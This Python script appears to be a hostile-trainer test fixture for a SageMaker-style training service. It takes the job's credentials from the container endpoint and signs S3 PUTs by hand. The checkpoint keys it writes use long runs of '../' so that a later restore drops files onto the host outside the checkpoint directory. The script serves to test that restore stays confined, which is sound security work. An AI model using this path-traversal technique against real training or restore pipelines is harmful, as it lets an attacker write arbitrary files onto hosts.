"""A hostile trainer (issue 22, item 1): with the job's own role credentials, served to it by the container
credentials endpoint as on SageMaker, it signs S3 PUTs (SigV4, the standard library only) of checkpoint
objects whose keys climb out of the checkpoint prefix, meant to be written onto the host by the restore of
the session's next job. MODE=resume only lists what was restored into /opt/ml/checkpoints."""

import datetime
import hashlib
import hmac
import json
import os
import sys
import urllib.parse
import urllib.request
from pathlib import Path


def credentials():
    with urllib.request.urlopen(os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"], timeout=10) as answer:
        return json.load(answer)


def _hmac(key, text):
    return hmac.new(key, text.encode(), hashlib.sha256).digest()


def put(bucket, key, body, creds):
    endpoint = urllib.parse.urlsplit(os.environ["AWS_ENDPOINT_URL_S3"])
    region = os.environ.get("AWS_REGION", "us-east-1")
    path = "/" + bucket + "/" + urllib.parse.quote(key, safe="/~")
    now = datetime.datetime.now(datetime.timezone.utc)
    stamp, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
    payload = hashlib.sha256(body).hexdigest()
    headers = {
        "host": endpoint.netloc,
        "x-amz-content-sha256": payload,
        "x-amz-date": stamp,
        "x-amz-security-token": creds["Token"],
    }
    names = ";".join(sorted(headers))
    canonical = "\n".join(["PUT", path, "", *(f"{k}:{headers[k]}" for k in sorted(headers)), "", names, payload])
    scope = f"{day}/{region}/s3/aws4_request"
    to_sign = "\n".join(["AWS4-HMAC-SHA256", stamp, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    key_bytes = _hmac(
        _hmac(_hmac(_hmac(("AWS4" + creds["SecretAccessKey"]).encode(), day), region), "s3"), "aws4_request"
    )
    signature = hmac.new(key_bytes, to_sign.encode(), hashlib.sha256).hexdigest()
    headers["authorization"] = (
        f"AWS4-HMAC-SHA256 Credential={creds['AccessKeyId']}/{scope}, SignedHeaders={names}, Signature={signature}"
    )
    request = urllib.request.Request(f"{endpoint.scheme}://{endpoint.netloc}{path}", body, headers, method="PUT")
    with urllib.request.urlopen(request, timeout=10) as answer:
        print(f"PUT {key}: {answer.status}", flush=True)


def main():
    if os.environ.get("MODE") == "resume":
        for root, _dirs, files in os.walk("/opt/ml/checkpoints"):
            for name in files:
                print("RESTORED", os.path.relpath(os.path.join(root, name), "/opt/ml/checkpoints"), flush=True)
        Path("/opt/ml/model/model.txt").write_text("resumed")
        return
    bucket, _, prefix = os.environ["CKPT_URI"][len("s3://") :].partition("/")
    target = os.environ["TARGET"].lstrip("/")
    creds = credentials()
    for key in (
        f"{prefix}/" + "../" * 30 + target,
        f"{prefix}/sub/../../../" + "../" * 30 + target + "2",
    ):
        put(bucket, key, b"owned by the image", creds)
    put(bucket, f"{prefix}/good/ep1.ckpt", b"ep1", creds)
    Path("/opt/ml/model/model.txt").write_text("trained")


if __name__ == "__main__":
    sys.exit(main())
